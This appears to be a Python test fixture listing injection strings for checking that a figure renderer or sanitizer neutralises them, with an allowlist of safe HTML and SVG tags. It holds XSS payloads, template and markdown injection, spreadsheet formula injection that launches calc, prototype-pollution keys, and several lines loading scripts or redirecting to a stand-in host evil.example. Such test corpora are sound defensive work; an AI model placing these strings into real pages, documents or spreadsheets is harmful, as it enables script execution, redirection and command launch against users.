"""Texts that would run, fetch or change something where they are taken for more than text."""

from __future__ import annotations

RUN = "window.__xss=(window.__xss||0)+1"
CORPUS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f'<script src="http://evil.example/x.js">{RUN}</script>',
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex=0 x='",
    f"` onclick={RUN} x=`",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    *(
        f"</{tag}><script>{RUN}</script>"
        for tag in ("style", "script", "title", "textarea", "table", "details", "svg", "noscript", "template")
    ),
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\x00<script>{RUN}</script>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\u202e<script>{RUN}</script>",
    f"<\u2028script>{RUN}</script>",
    f"[x](javascript:{RUN}) ![x](http://evil.example/x.png) <http://evil.example>",
    f"<b>{{{{ 7*7 }}}}</b>{{% raise %}}${{{RUN}}}",
    "<!--mongo-tables:0000000000000000-0-->",
    '<!-- MONGO_TABLE: {"collection": "x"} -->',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css'; body { background: url(http://evil.example/x) }</style>",
    "<video poster=http://evil.example/x><source src=http://evil.example/y></video>",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
]
# What a figure is made of; none of it fetches, runs or leads away.
TAGS = set(
    "h1 figure figcaption strong span em i b a div table thead tbody tr th td abbr button br details summary p pre code "
    "svg title desc g path rect text circle line polyline tspan ul ol li dl dt dd small time caption kbd "
    "label input output".split()
)
